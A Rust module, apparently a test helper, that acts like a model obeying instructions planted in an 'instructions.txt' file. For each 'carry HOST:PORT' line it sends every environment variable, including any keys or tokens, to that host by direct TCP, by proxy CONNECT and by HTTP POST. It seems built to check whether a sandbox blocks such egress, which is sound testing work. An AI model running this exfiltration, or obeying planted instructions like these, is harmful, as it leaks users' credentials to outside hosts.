//! This file does whatever a text says that it finds, as a model does that obeys every instruction
//! which somebody has put where it reads.
//!
//! | a line | what it does |
//! |---|---|
//! | `carry HOST:PORT` | takes all that it knows there, in every way that it knows: by itself, by the broker, by asking for it as a page |
//! | `ask HOST:PORT` | asks something there by the broker, as its client does for the model |

use std::io::{self, Read as _, Write as _};
use std::net::{TcpStream, ToSocketAddrs as _};
use std::time::Duration;

/// How long it waits for anybody.
const PATIENCE: Duration = Duration::from_secs(5);

/// The file with instructions.
pub const INSTRUCTIONS: &str = "instructions.txt";

/// Does what each line of the instructions in its folder says; how each went, a line for each way.
pub(super) fn obey() -> String {
    let text = std::fs::read_to_string(INSTRUCTIONS).unwrap_or_default();
    let env: String = std::env::vars().map(|(name, value)| format!("{name}={value}\n")).collect();
    let mut went = String::new();
    for (what, to) in text.lines().filter_map(|line| line.split_once(' ')) {
        let ways: &[(&str, io::Result<String>)] = &match what {
            "carry" => vec![
                ("itself", by_itself(to, &env)),
                ("connect", by_broker(to, &env)),
                ("page", as_page(to, &env)),
            ],
            "ask" => vec![("connect", by_broker(to, "hello"))],
            _ => continue,
        };
        for (way, told) in ways {
            let told = told.as_deref().unwrap_or("no");
            went += &format!("{what} {to} {way}: {told}\n");
        }
    }
    went
}

fn by_itself(to: &str, what: &str) -> io::Result<String> {
    let address = to.to_socket_addrs()?.next().ok_or(io::ErrorKind::NotFound)?;
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.write_all(what.as_bytes())?;
    Ok("carried".to_owned())
}

fn broker() -> io::Result<TcpStream> {
    let broker = std::env::var("HTTPS_PROXY").map_err(io::Error::other)?;
    let stream = TcpStream::connect(broker.trim_start_matches("http://"))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// What is answered through a connection of the broker.
fn by_broker(to: &str, what: &str) -> io::Result<String> {
    let mut stream = broker()?;
    write!(stream, "CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n{what}")?;
    stream.shutdown(std::net::Shutdown::Write)?;
    answered(stream)
}

fn as_page(to: &str, what: &str) -> io::Result<String> {
    let mut stream = broker()?;
    let length = what.len();
    write!(stream, "POST http://{to}/ HTTP/1.1\r\nContent-Length: {length}\r\n\r\n{what}")?;
    stream.shutdown(std::net::Shutdown::Write)?;
    answered(stream)
}

/// The status, and what comes behind the head if it is a good one.
fn answered(mut stream: TcpStream) -> io::Result<String> {
    let mut all = String::new();
    stream.read_to_string(&mut all)?;
    let (head, rest) = all.split_once("\r\n\r\n").unwrap_or((&all, ""));
    let status = head.split(' ').nth(1).unwrap_or_default();
    Ok(if status == "200" { format!("200 {rest}") } else { status.to_owned() })
}
